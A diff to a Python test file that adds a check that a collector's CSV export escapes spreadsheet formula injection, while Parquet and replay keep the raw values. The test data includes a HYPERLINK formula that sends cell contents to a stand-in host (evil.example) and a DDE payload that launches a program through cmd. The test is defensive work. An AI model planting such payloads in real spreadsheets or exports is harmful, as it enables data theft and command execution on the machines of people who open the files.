@@ -1,12 +1,14 @@
 """Exports are plain files: the values that went in, in the units of the model."""
 
 import csv
+from dataclasses import replace
 from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.parquet as pq
 
 from collector.batch import SAMPLE_SCHEMA, to_table
+from collector.replay.file import read_raw
 from collector.store.database import open_store
 from tests.collector.store.store_parts import T0, TICK_MS, at_path, held, sample, tick
 
@@ -40,6 +42,23 @@ def test_csv_export_says_the_same_with_empty_fields_for_not_measured(tmp_path: P
     assert float(row["utilization_ratio"]) == 0.25
     assert row["temperature_c"] == "0" and row["encoder_ratio"] == ""
     assert row["node"] == "n0" and int(row["at_ms"]) == T0 + TICK_MS
+
+
+def test_no_name_that_somebody_chose_is_a_formula_in_a_csv_file(tmp_path: Path) -> None:
+    command = '=HYPERLINK("http://evil.example/?"&A1)'
+    claim = held(0, "a")
+    claim = replace(claim, holder=replace(claim.holder, name=command, command="-2+cmd|' /C calc'!A0"))
+    with open_store(at_path(tmp_path)) as store:
+        store.write_tick(tick(T0 + TICK_MS, [sample(0, T0 + TICK_MS, 0.25)], [claim]))
+        done = store.export(tmp_path / "out", "csv", T0, T0 + TICK_MS)
+        whole = store.export(tmp_path / "out", "parquet", T0, T0 + TICK_MS)
+    with done.files[1].open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["name"] == f"'{command}" and row["command"] == "'-2+cmd|' /C calc'!A0"
+    assert row["user"] == "user-a"
+    (same,) = read_raw(done.files[1]).table.to_pylist()
+    assert same["name"] == command, "what is replayed is what was exported"
+    assert pq.read_table(whole.files[1]).to_pylist()[0]["name"] == command, "nobody runs a Parquet cell"
 
 
 def _to_e4(table: pa.Table) -> pa.Table:
